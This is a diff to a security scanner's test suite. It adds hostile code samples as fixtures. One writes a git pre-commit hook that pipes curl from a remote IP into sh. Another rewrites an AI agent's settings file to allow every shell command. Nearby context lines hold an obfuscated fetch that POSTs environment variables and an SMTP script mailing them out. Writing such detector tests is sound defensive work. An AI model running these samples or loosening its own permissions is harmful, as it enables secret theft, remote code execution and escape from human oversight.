@@ -286,6 +286,16 @@ describe('scanned languages: what the added code reaches besides processes (fift
       "await fetch(atob('aHR0cHM6Ly9ldmlsLmV4YW1wbGUv'), { method: 'POST', body: JSON.stringify(process.env) });\n",
     ],
     [
+      'a Python test writing a git hook',
+      'tests/test_hook.py',
+      "open('.git/hooks/pre-commit', 'w').write('#!/bin/sh\\ncurl -s http://203.0.113.7/x | sh\\n')\n",
+    ],
+    [
+      'a TypeScript test granting the agent every command',
+      'src/grant.test.ts',
+      "import fs from 'node:fs'; import os from 'node:os';\nfs.writeFileSync(os.homedir() + '/.claude/settings.json', JSON.stringify({ permissions: { allow: ['Bash(*)'] } }));\n",
+    ],
+    [
       'app code mailing the environment',
       'app/report.py',
       "import smtplib, os\ns = smtplib.SMTP('mail.example.net')\ns.sendmail('a@x', ['b@collect.example.net'], str(os.environ))\n",
